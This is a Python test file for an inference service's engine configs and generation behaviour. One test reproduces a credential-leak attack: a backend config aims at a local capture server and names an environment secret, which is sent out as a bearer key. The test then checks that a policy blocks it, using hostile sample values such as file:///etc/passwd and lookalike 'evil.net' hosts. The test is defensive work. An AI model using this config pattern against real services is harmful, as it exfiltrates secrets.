"""The engine contract, over every registered engine (``services.pools.base.ENGINES``).

Configs: every engine's typed config refuses unknown keys and bad values, naming the field.
Generation: run on the engines that can run here, the real ``transformers`` engine (a tiny local
GPT-2) and ``fake``, the fake of ``vllm`` (vLLM needs a GPU), named as a fake; ``openai`` needs
a remote endpoint and is covered by its config checks only.
"""

from __future__ import annotations

import asyncio

import pytest

from services.pools.base import ENGINES, EngineError, GenRequest, engine_config, make_engine

RUNNABLE = ["transformers", "fake"]


@pytest.mark.parametrize("name", sorted(ENGINES))
def test_every_engine_config_is_typed(name):
    cfg = engine_config({"engine": name, "path": "some/model"})
    assert engine_config(cfg.model_dump(mode="json")) == cfg  # JSON round trip
    for bad, field in [({"no_such_key": 1}, "no_such_key"), ({"max_new_tokens": 0}, "max_new_tokens"), ({"max_new_tokens": "many"}, "max_new_tokens")]:
        with pytest.raises(EngineError, match=rf"field 'cards\.0\.backend\.{field}'"):
            engine_config({"engine": name, "path": "some/model", **bad}, where="cards.0.backend")
    with pytest.raises(EngineError, match=r"field 'backend\.engine': must be one of"):
        engine_config({"engine": "tgi"})


def test_engines_that_cannot_be_built_here_say_why(tmp_path, monkeypatch):
    monkeypatch.delenv("CMR_OPENAI_BASE_URL", raising=False)
    with pytest.raises(EngineError, match=r"backend\.base_url"):
        make_engine("m", {"engine": "openai"})
    with pytest.raises(EngineError, match=r"backend\.path"):
        make_engine("m", {"engine": "transformers", "path": str(tmp_path / "missing")})
    with pytest.raises(EngineError, match=r"backend\.path"):
        make_engine("m", {"engine": "vllm"})
    with pytest.raises(EngineError, match="vllm"):
        make_engine("m", {"engine": "vllm", "path": "org/model"})  # no vllm package here (a GPU extra)


def test_a_backend_cannot_send_a_pool_variable_to_its_own_host(monkeypatch):
    """Issue 14 (5), the attack first: an openai card naming any variable of the pool process and
    any host gets that variable sent there as its bearer key. The app's ``BackendPolicy`` (what
    config, HTTP and gRPC registrations and the pool itself check) refuses it, naming the field."""
    import http.server
    import threading

    from services.pools.base import BackendPolicy

    seen = []

    class Capture(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            seen.append(self.headers.get("Authorization"))
            self.send_response(401)  # not retried by the client
            self.end_headers()

        def log_message(self, *a):
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Capture)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    monkeypatch.setenv("SOME_DB_PASSWORD", "hunter2")
    evil = {"engine": "openai", "base_url": f"http://127.0.0.1:{srv.server_port}/v1", "api_key_env": "SOME_DB_PASSWORD"}
    try:
        engine = make_engine("evil", evil)  # no policy: the structure alone is fine ...
        with pytest.raises(Exception):
            asyncio.run(_drain(engine))
        assert "Bearer hunter2" in seen  # ... and the secret left the process
    finally:
        srv.shutdown()
    policy = BackendPolicy()
    with pytest.raises(EngineError, match=r"field 'cards\.0\.backend\.api_key_env': 'SOME_DB_PASSWORD' is not an allowed key variable"):
        engine_config(evil, where="cards.0.backend", policy=policy)
    for name in ("OPENAI_API_KEY", "CMR_STORE", "CMR_BACKEND_KEY"):  # a prefix must match whole
        with pytest.raises(EngineError, match="api_key_env"):
            engine_config({**evil, "api_key_env": name}, policy=policy)
    assert engine_config({**evil, "api_key_env": "CMR_BACKEND_KEY_ACME"}, policy=policy).api_key_env == "CMR_BACKEND_KEY_ACME"
    assert engine_config({"engine": "openai"}, policy=policy).api_key_env == "CMR_BACKEND_KEY_OPENAI"  # the default is allowed
    assert engine_config({**evil, "api_key_env": "OPENAI_API_KEY"}, policy=BackendPolicy(key_envs=["OPENAI_API_KEY"]))
    with pytest.raises(EngineError, match=r"field 'backend\.base_url': must be an http\(s\) URL"):
        engine_config({"engine": "openai", "base_url": "file:///etc/passwd"}, policy=policy)
    # the optional host allow-list
    hosts = BackendPolicy(hosts=["api.openai.com", ".internal.example"])
    for ok in ("https://api.openai.com/v1", "http://llm.internal.example:8000/v1", "https://API.OpenAI.com/v1"):
        assert engine_config({"engine": "openai", "base_url": ok}, policy=hosts)
    for bad in ("http://127.0.0.1:9/v1", "https://api.openai.com.evil.net/v1", "https://evil.net/internal.example"):
        with pytest.raises(EngineError, match=r"field 'backend\.base_url': host .* is not an allowed backend host"):
            engine_config({"engine": "openai", "base_url": bad}, policy=hosts)


async def _drain(engine):
    from services.pools.base import GenRequest

    return [c async for c in engine.generate(GenRequest(model="m", messages=[{"role": "user", "content": "hi"}]))]


@pytest.fixture(scope="module")
def engines(tmp_path_factory):
    from services.pools.tiny import ensure_tiny_models

    folders = ensure_tiny_models(tmp_path_factory.mktemp("models"))
    return {"transformers": make_engine("tiny", {"engine": "transformers", "path": str(folders["tiny-gpt2-a"])}),
            "fake": make_engine("fake-vllm", {"engine": "fake", "tokenizer": str(folders["tiny-gpt2-a"])})}


def _run(engine, **kw):
    async def go():
        return [c async for c in engine.generate(GenRequest(model="m", **kw))]

    chunks = asyncio.run(go())
    assert all(c.finish_reason is None for c in chunks[:-1]) and chunks[-1].finish_reason in ("stop", "length")
    return "".join(c.text for c in chunks), chunks[-1]


@pytest.mark.parametrize("name", RUNNABLE)
def test_generation_contract(name, engines):
    eng = engines[name]
    chat = [{"role": "user", "content": "translate the models and route the requests to the hub"}]
    text, last = _run(eng, messages=chat, max_tokens=6, temperature=0)
    assert last.prompt_tokens > 0 and 0 < last.completion_tokens <= 6
    assert (last.finish_reason == "length") == (last.completion_tokens == 6)
    assert _run(eng, messages=chat, max_tokens=6, temperature=0)[0] == text  # greedy is repeatable
    # a seed fixes a sampled answer
    a = _run(eng, messages=chat, max_tokens=8, temperature=1.0, top_p=0.9, seed=7)
    assert _run(eng, messages=chat, max_tokens=8, temperature=1.0, top_p=0.9, seed=7)[0] == a[0]
    # a stop string ends the answer before it, finish_reason stop
    stop = text.strip()[len(text.strip()) // 2:][:3]
    if stop.strip():
        cut, end = _run(eng, messages=chat, max_tokens=6, temperature=0, stop=[stop])
        assert stop not in cut and text.startswith(cut) and end.finish_reason == "stop" and end.completion_tokens <= last.completion_tokens
    # max_new_tokens caps a request's max_tokens
    eng.max_new_tokens, cap = 2, eng.max_new_tokens
    try:
        assert _run(eng, prompt="route the requests", max_tokens=50, temperature=0)[1].completion_tokens <= 2
    finally:
        eng.max_new_tokens = cap


def test_fake_counts_tokens_with_its_tokenizer(engines):
    fake = engines["fake"]
    text, last = _run(fake, prompt="one two three four", max_tokens=3, temperature=0)
    assert last.prompt_tokens == len(fake.tokenizer("one two three four", add_special_tokens=False)["input_ids"])
    assert last.completion_tokens == 3 and last.finish_reason == "length"
    assert text == fake.tokenizer.decode(fake.tokenizer("one two three four", add_special_tokens=False)["input_ids"][:3], skip_special_tokens=True)
